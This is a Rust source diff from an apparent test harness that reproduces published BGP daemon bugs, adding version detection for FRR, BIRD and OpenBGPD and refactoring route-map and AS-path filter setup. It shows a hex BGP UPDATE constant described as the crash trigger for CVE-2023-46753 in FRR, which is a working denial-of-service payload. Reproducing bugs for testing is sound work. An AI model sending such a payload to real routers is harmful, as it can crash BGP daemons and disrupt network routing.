@@ -1,5 +1,28 @@
 //! Published bugs of the daemons, as scenarios need them: what triggers them, and the configuration they need.
 
+use crate::daemons::Daemon;
+use anyhow::{Context, Result};
+use std::process::{Command, Stdio};
+
+/// Name and version of the installed daemon, in its own words: a scenario whose bug does not show has to name whom it looked at.
+pub fn installed(daemon: Daemon) -> Result<String> {
+    let (name, program, option) = match daemon {
+        Daemon::Frr => ("FRR", "/usr/lib/frr/bgpd", "--version"),
+        Daemon::Bird => ("BIRD", "bird", "--version"),
+        Daemon::OpenBgpd => ("OpenBGPD", "/usr/sbin/bgpd", "-V"),
+    };
+    let out = Command::new(program)
+        .arg(option)
+        .stdin(Stdio::null())
+        .output()
+        .with_context(|| format!("starting {program}"))?;
+    // FRR says it on standard output, the others on standard error.
+    let text = [out.stdout, out.stderr].map(|bytes| String::from_utf8_lossy(&bytes).into_owned()).concat();
+    let first = text.lines().next().unwrap_or_default();
+    let version = first.split_whitespace().find(|word| word.starts_with(|c: char| c.is_ascii_digit()));
+    Ok(format!("{name} {}", version.with_context(|| format!("{program} {option} says {first:?}"))?))
+}
+
 /// CVE-2023-46753: FRR up to 9.0 with a route-map that prepends dies of an UPDATE without a path.
 pub mod cve_2023_46753 {
     use crate::daemons::Instance;
@@ -18,13 +41,21 @@ pub mod cve_2023_46753 {
     pub const UPDATE: &str =
         "ffffffffffffffffffffffffffffffff002f0200000014ff1f00100004014646464646000446464646464618c63364";
 
-    /// Gives a running FRR a route-map that prepends, for what this neighbour says of 198.51.100.0/24 alone.
-    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
-        let commands = format!(
-            "configure terminal\nbgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
+    /// What it is called.
+    pub const NAME: &str = "CVE-2023-46753";
+
+    /// Configuration with a route-map that prepends, for what this neighbour says of 198.51.100.0/24 alone: lines for the end of FRR's file.
+    pub fn configuration(neighbour: IpAddr) -> String {
+        format!(
+            "bgp route-map delay-timer 0\nip prefix-list PUBLISHED seq 5 permit 198.51.100.0/24\n\
              route-map IN permit 10\nmatch ip address prefix-list PUBLISHED\nset as-path prepend 65000\nroute-map IN permit 20\n\
-             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in"
-        );
+             router bgp 65000\naddress-family ipv4 unicast\nneighbor {neighbour} route-map IN in\n"
+        )
+    }
+
+    /// Gives a running FRR the same.
+    pub fn prepend(frr: &Instance, ns: &Netns, neighbour: IpAddr) -> Result<()> {
+        let commands = format!("configure terminal\n{}", configuration(neighbour));
         operate::control(frr, ns, &commands).map(|_| ())
     }
 
@@ -86,13 +117,15 @@ pub mod as_path_mask {
     /// ASes in the path.
     const LENGTH: u32 = 3_000;
 
-    /// Gives a running BIRD the filter and extended messages; before its sessions stand, for they are negotiated at their start.
-    pub fn configure(bird: &Instance, ns: &Netns) -> Result<()> {
+    /// Gives a running BIRD extended messages and the filter, with the mask or without; before its sessions stand, for they are
+    /// negotiated at their start.
+    pub fn configure(bird: &Instance, ns: &Netns, mask: bool) -> Result<()> {
         let path = bird.folder().join("bgp.conf");
         let text = fs::read_to_string(&path).context("BIRD's configuration")?;
-        let filter = "filter masked { if bgp_path ~ [= * 64999 * =] then reject; accept; }\n\nfilter to_peer {";
+        let look = if mask { "if bgp_path ~ [= * 64999 * =] then reject;" } else { "" };
+        let filter = format!("filter masked {{ {look} accept; }}\n\nfilter to_peer {{");
         let text = text
-            .replacen("filter to_peer {", filter, 1)
+            .replacen("filter to_peer {", &filter, 1)
             .replace("import all;", "import filter masked;")
             .replace("    connect delay time", "    enable extended messages on;\n    connect delay time");
         ensure!(text.contains("import filter masked;"), "BIRD's configuration has no import to filter: {text}");
